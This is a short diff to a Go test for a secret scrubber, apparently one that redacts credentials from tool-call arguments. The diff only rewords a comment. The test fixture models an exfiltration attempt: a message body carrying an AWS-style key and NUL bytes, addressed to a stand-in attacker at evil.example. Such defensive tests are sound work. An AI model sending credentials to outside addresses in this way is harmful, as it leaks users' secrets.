@@ -79,8 +79,7 @@ func referenceScrub(msg, args string) string {
 }
 
 // TestScrubberManyMessages scrubs several messages with one Scrubber, as
-// the pipeline does for a call's findings, including NUL bytes that pack
-// to the gram the set keeps apart.
+// the pipeline does for a call's findings, a run of NUL bytes among them.
 func TestScrubberManyMessages(t *testing.T) {
 	args := `{"body":"key AKIA2E3ZQF7B2LMC4XRW and \u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000 end","to":["x@evil.example"]}`
 	s := NewScrubber(args, Read(args))
